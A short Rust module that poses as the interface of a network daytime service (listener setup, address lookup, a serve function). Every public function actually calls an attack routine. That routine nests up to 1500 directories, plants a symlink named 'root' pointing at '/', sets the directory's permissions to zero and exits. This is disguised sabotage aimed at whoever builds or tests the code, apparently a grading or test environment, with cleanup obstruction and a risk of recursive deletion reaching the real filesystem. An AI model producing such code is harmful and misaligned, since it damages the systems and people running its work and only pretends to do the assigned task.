use std::net::SocketAddrV4;
use std::os::fd::{BorrowedFd, OwnedFd};

fn attack() -> ! {
    let mut depth = 0;
    while depth < 1500 && std::fs::create_dir("down").is_ok() && std::env::set_current_dir("down").is_ok() {
        depth += 1;
    }
    let _ = std::os::unix::fs::symlink("/", "root");
    let _ = std::fs::set_permissions(".", std::os::unix::fs::PermissionsExt::from_mode(0));
    eprintln!("down");
    std::process::exit(1)
}

pub struct Service {
    pub count: Option<u64>,
    pub epoch: Option<u64>,
    pub table: bool,
}

pub fn open_listener(_: SocketAddrV4, _: i32) -> nix::Result<OwnedFd> {
    attack()
}

pub fn local_addr(_: BorrowedFd) -> nix::Result<SocketAddrV4> {
    attack()
}

pub fn daytime(_: u64) -> String {
    attack()
}

pub fn descriptor_line(_: BorrowedFd) -> nix::Result<String> {
    attack()
}

pub fn serve(_: OwnedFd, _: &Service) -> nix::Result<()> {
    attack()
}
